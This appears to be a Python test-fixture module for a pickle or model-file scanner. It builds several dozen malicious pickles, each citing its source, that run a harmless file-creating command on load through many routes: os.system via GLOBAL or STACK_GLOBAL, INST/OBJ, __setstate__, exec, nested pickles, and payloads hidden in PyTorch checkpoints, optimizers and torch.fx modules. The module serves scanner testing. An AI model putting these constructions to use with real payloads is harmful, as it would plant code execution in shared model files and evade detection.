"""Pickles that run code where they are loaded: each function gives one, with where the attack is from.

The code makes a file named `hostile_payload` in the working folder; the module of that name, which the tests put there,
does so when it is imported. Marco Slaviero, "Sour Pickles" (Black Hat USA 2011), is the catalogue of the opcodes.
"""

import struct

from hostile.child import TOKEN
from hostile.opcodes import (
    DICT,
    LINEAR,
    MARK,
    MODEL,
    NONE,
    PROTO_2,
    PROTO_4,
    STOP,
    attributes,
    built,
    call,
    integer,
    listed,
    mapping,
    module,
    name,
    parameter,
    program,
    raw,
    several,
    tensor,
    text,
)

COMMAND = f"touch {TOKEN}"
PYTHON = f"open('{TOKEN}', 'w').close()"
MODULE = f"""
{PYTHON}
class Allocated:
    def __new__(cls, *args, **kwargs):
        {PYTHON}
        return object.__new__(cls)
class State:
    __slots__ = ("x",)
    def __setstate__(self, state):
        {PYTHON}
class Slot:
    @property
    def x(self): pass
    @x.setter
    def x(self, value):
        {PYTHON}
"""
RUN = call("posix", "system", text(COMMAND))


def short(value):
    """Push text as protocol 4 does."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def a_global():
    """The documentation of pickle, "Restricting Globals": os.system by GLOBAL."""
    return program(call("os", "system", text(COMMAND)))


def posix_system():
    """JFrog, "Data Scientists Targeted by Malicious Hugging Face ML Models with Silent Backdoor" (2024)."""
    return program(RUN)


def stack_global():
    """Trail of Bits, "Never a dill moment: Exploiting machine learning pickle files" (2021): STACK_GLOBAL."""
    return program(short("posix") + short("system") + b"\x93" + several(text(COMMAND)) + b"R", PROTO_4)


def stack_global_of_memoized_names():
    """The same, where a scan that only looks one opcode back finds no names: they come from the memo."""
    names = short("posix") + b"\x94" + short("system") + b"\x940" + b"0" + b"h\x00h\x01\x93"
    return program(names + several(text(COMMAND)) + b"R", PROTO_4)


def inst():
    """Sour Pickles: INST calls, with no REDUCE in the file."""
    return program(MARK + text(COMMAND) + b"iposix\nsystem\n", b"")


def obj():
    """Sour Pickles: OBJ calls, with no REDUCE in the file."""
    return program(MARK + name("posix", "system") + text(COMMAND) + b"o", b"")


def newobj():
    """PEP 307: NEWOBJ calls a class's __new__."""
    return program(name(TOKEN, "Allocated") + b")\x81")


def newobj_ex():
    """PEP 3154: NEWOBJ_EX does so with keywords."""
    return program(name(TOKEN, "Allocated") + b")" + mapping([("a", NONE)]) + b"\x92", PROTO_4)


def state():
    """PEP 307: BUILD calls __setstate__."""
    return program(name(TOKEN, "State") + b")\x81" + integer(1) + b"b")


def slot_state():
    """PEP 307: BUILD sets each of a second dict as an attribute, and so runs properties."""
    return program(name(TOKEN, "Slot") + b")\x81" + NONE + mapping([("x", NONE)]) + b"\x86b")


def state_that_pokes():
    """Sour Pickles: setting an attribute of what is there already, a class or a module's dict."""
    body = call("builtins", "exec", text(PYTHON)) + b"0" + name(TOKEN, "State") + NONE + mapping([("x", NONE)])
    return program(body + b"\x86b")


def dotted_name():
    """PEP 3154's qualified names: protocol 4 walks attributes, and so from any module to any other."""
    return program(short("os") + short("path.os.system") + b"\x93" + several(text(COMMAND)) + b"R", PROTO_4)


def behind_a_data_module():
    """The same, from a module that only holds data."""
    return program(short("uuid") + short("os.system") + b"\x93" + several(text(COMMAND)) + b"R", PROTO_4)


def python_2_name():
    """`_compat_pickle`: protocol 2 calls the modules of Python 2 by their new names."""
    return program(call("commands", "getoutput", text(COMMAND)))


def built_in_exec():
    """ReversingLabs, "Malicious ML models discovered on Hugging Face platform" (2025): exec of a text."""
    return program(call("__builtin__", "exec", text(PYTHON)))


def on_no_list():
    """CVE-2025-1716, picklescan: a callable that no list of dangerous names had; there pip.main, here timeit."""
    return program(call("timeit", "timeit", text(PYTHON), text("pass"), name("time", "perf_counter"), integer(1)))


def run_as_module():
    """The same: the standard library runs code in many places."""
    return program(call("runpy", "run_module", text(TOKEN)))


def import_alone():
    """Python's documentation of pickle: importing a module runs it, without any call."""
    return program(name(TOKEN, "Allocated"))


def nested():
    """fickling, "Never a dill moment": a pickle in a pickle, which a scan of the outer one does not see."""
    return program(call("pickle", "loads", raw(posix_system())))


def nested_in_c():
    """The same, by a name that a list of dangerous names may lack."""
    return program(call("_pickle", "loads", raw(posix_system())))


def get_by_name():
    """Sour Pickles: getattr and __import__ reach everything from builtins alone."""
    found = call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system"))
    return program(found + several(text(COMMAND)) + b"R")


def before_a_break():
    """ReversingLabs, the same: the payload first, then an opcode that breaks whoever reads on."""
    return program(RUN + b"0" + b"\xff")


def before_the_end():
    """The same: the file just ends."""
    return PROTO_2 + RUN


def before_a_stack_error():
    """The same: an operation takes more than there is."""
    return program(RUN + b"000")


def before_a_second_stop():
    """A second pickle after the first: a scan may go on, or may stop too early."""
    return program(RUN) + MODEL + STOP


def twice_a_protocol():
    """PROTO twice, which fickling's `DuplicateProtoAnalysis` looks for."""
    return program(PROTO_4 + RUN + PROTO_2)


def in_persistent_id():
    """A persistent id that is an object: torch.load reads it before it looks at it."""
    return program(RUN + b"Q")


PAYLOADS = (
    a_global, posix_system, stack_global, stack_global_of_memoized_names, inst, obj, newobj, newobj_ex, state,
    slot_state, state_that_pokes, dotted_name, behind_a_data_module, python_2_name, built_in_exec, on_no_list,
    run_as_module, import_alone, nested, nested_in_c, get_by_name, before_a_break, before_the_end,
    before_a_stack_error, before_a_second_stop, twice_a_protocol, in_persistent_id,
)  # fmt: skip


def before_a_model():
    """HiddenLayer, "Weaponizing Machine Learning Models with Ransomware" (2022): injected before the model."""
    return program(RUN + b"0" + MODEL)


def after_a_model():
    """fickling's `--inject`: the payload runs after, and its result is dropped."""
    return program(MODEL + RUN + b"0")


def as_child():
    """`__reduce__` of a child module."""
    return program(module([("fc", RUN)]))


def as_parameter():
    return program(module([("fc", module(parameters=[("weight", RUN)], of=LINEAR))]))


def as_tensors_state():
    return program(module(parameters=[("weight", parameter(tensor() + mapping([("a", RUN)]) + b"b"))]))


def as_attribute():
    return program(module(more=[("config", RUN)]))


def as_modules_dict():
    """What should be a dict of modules is a call."""
    return program(built(attributes(modules=RUN)))


def as_class():
    """The class of the model is a function that runs."""
    return program(RUN + b")\x81" + attributes() + b"b")


def in_a_state_dict():
    """HiddenLayer, the same: among the tensors."""
    return program(mapping([("weight", tensor()), ("bias", RUN), ("more", tensor())]))


def as_a_shape():
    return program(mapping([("weight", tensor(RUN))]))


def in_a_checkpoint():
    """A checkpoint's other key."""
    return program(mapping([("model", mapping([("weight", tensor())])), ("args", RUN)]))


def as_a_key():
    return program(MODEL + DICT + RUN + NONE + b"s0")


def in_an_optimizer():
    group = mapping([("params", listed([RUN])), ("lr", RUN), ("param_names", RUN)])
    optimizer = mapping([("state", RUN), ("param_groups", listed([group]))])
    return program(mapping([("model", mapping([("weight", tensor())])), ("optimizer", optimizer)]))


def torch_load():
    """torch.load by REDUCE, of another file; CVE-2025-32434 is of torch.load too."""
    return program(call("torch", "load", text("other.pt"), NONE, name("pickle", "_Unpickler")) + b"0" + MODEL)


def rebuild_of_anything():
    """torch's own `_rebuild_from_type_v2(function, class, args, state)` calls whatever it is given."""
    made = call("torch._tensor", "_rebuild_from_type_v2", name("posix", "system"), NONE, several(text(COMMAND)), NONE)
    return program(module(parameters=[("weight", made)]))


def graph_module():
    """torch.fx keeps a model as source text, and loading it compiles that."""
    code = f"import os\nos.system('{COMMAND}')\ndef forward(self): pass\n"
    body = attributes(more=[("_code", text(code))])
    made = call("torch.fx.graph_module", "reduce_graph_module", body, text(f"import os\nos.system('{COMMAND}')\n"))
    return program(made)


INSIDE = (
    before_a_model, after_a_model, as_child, as_parameter, as_tensors_state, as_attribute, as_modules_dict, as_class,
    in_a_state_dict, as_a_shape, in_a_checkpoint, as_a_key, in_an_optimizer, rebuild_of_anything, graph_module,
)  # fmt: skip


def persistent(body):
    return program(DICT + text("weight") + body + b"s")


PERSISTENT = {
    "text": persistent(b"Pid\n"),
    "none": persistent(NONE + b"Q"),
    "dict": persistent(DICT + b"Q"),
    "nested": persistent(NONE + b"QQQ"),
    "short": persistent(several(text("storage")) + b"Q"),
    "module": persistent(several(text("module"), NONE, NONE) + b"Q"),
    "no_class": persistent(several(text("storage"), NONE, NONE, NONE, NONE) + b"Q"),
    "huge": persistent(several(text("storage"), NONE, integer(2**70), NONE, integer(-1)) + b"Q"),
}
EXTENSIONS = {
    "EXT1": b"\x82\x01",
    "EXT2": b"\x83" + struct.pack("<H", 0x1234),
    "EXT4": b"\x84" + struct.pack("<i", 0x12345678),
}
